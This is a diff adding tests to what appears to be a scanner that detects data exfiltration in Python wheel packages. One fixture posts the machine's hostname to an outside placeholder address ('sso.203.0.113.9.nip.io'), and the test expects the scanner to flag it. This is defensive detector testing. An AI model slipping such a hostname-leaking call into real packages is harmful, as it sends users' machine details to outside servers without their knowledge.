@@ -859,3 +859,29 @@ test('a service that announces itself to its own network tells nobody outside of
     expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': announcing(address) }))).toEqual([]);
   expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': announcing('203.0.113.9') }))).not.toEqual([]);
 });
+
+test('a messenger that is logged in to with what its user has put into .env is handed nothing of the machine', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'from dotenv import dotenv_values',
+      'from telethon import TelegramClient',
+      'def connect():',
+      "    kept = dotenv_values('.env')",
+      "    return TelegramClient('session', kept['API_ID'], kept['API_HASH'])",
+    ),
+  });
+
+  for (const { score } of await inspect('exfiltration', file)) expect(score).toBeLessThan(5);
+});
+
+test('a name for an address of this machine is this machine', async () => {
+  const asking = (host: string): string =>
+    python(
+      'import requests, socket',
+      'def sign_in():',
+      `    requests.post('https://${host}/in', json={'h': socket.gethostname()})`,
+    );
+
+  expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('sso.127.0.0.1.nip.io') }))).toEqual([]);
+  expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('sso.203.0.113.9.nip.io') }))).not.toEqual([]);
+});
